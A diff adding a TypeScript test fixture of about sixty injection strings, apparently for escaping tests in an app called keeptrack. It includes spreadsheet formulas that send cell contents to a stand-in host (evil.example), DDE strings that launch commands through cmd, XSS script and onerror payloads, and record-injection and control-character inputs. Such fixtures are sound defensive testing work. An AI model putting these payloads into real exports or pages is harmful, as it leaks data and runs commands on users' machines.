@@ -1,0 +1,51 @@
+/** Sixty texts that a spreadsheet or a browser would run, or that break what is written badly. */
+const FORMULAS = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example?x="&A1,"click")',
+  '=IMPORTXML("https://evil.example","//a")',
+  '=WEBSERVICE("https://evil.example/"&A2)',
+  '+1+1',
+  "+cmd|' /C calc'!A0",
+  '-1+1',
+  "-2+3+cmd|' /C calc'!D2",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '@A1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠A1',
+  '|calc',
+  '%0A=1+1',
+  "'=1+1",
+  "''",
+  '"=1+1"',
+  '";=1+1;"',
+  '",=1+1,"',
+];
+const BEHIND = ['\t', '\r', '\n', ' ', '\u00a0', '\ufeff', '\u200b', '\u0000', '\r\n', '  \t', '\u2028', '\u202e'];
+const MARKUP = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '--><script>alert(1)</script>',
+  '<!-- keeptrack note {} -->',
+  '\\<!-- keeptrack note {} -->',
+  '<!-- keeptrack contact {"id":"x"} -->',
+  '## Not a contact',
+  '# Keeptrack',
+  'BEGIN:VCALENDAR',
+  'END:VEVENT\r\nBEGIN:VEVENT',
+  'a;b,c\\d',
+  '\\n is no line break',
+  'x'.repeat(300),
+  '苏敏周五下午五点之前'.repeat(20),
+  '😀👨‍👩‍👧'.repeat(30),
+  '\ud800',
+];
+
+export const PAYLOADS: readonly string[] = [
+  ...FORMULAS,
+  ...BEHIND.map((behind) => `${behind}=1+1`),
+  ...BEHIND.slice(0, 10).map((behind) => `${behind}@A1`),
+  ...MARKUP,
+];
